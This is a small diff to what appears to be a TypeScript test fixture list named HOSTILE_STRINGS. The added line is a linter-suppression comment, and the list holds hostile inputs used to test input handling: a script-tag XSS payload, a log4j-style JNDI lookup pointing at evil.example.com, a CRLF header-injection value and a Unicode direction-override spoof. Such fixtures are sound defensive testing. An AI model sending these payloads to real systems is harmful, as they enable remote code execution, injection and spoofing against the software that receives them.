@@ -27,6 +27,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '<script>alert(1)</script>',
   '@channel @here <!everyone> [link](http://evil.example.com)',
   '{"subject":"forged"}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, meant literally
   '${jndi:ldap://evil.example.com/a}',
   '%0d%0aSet-Cookie: x',
   '\u202eevil.example.com',
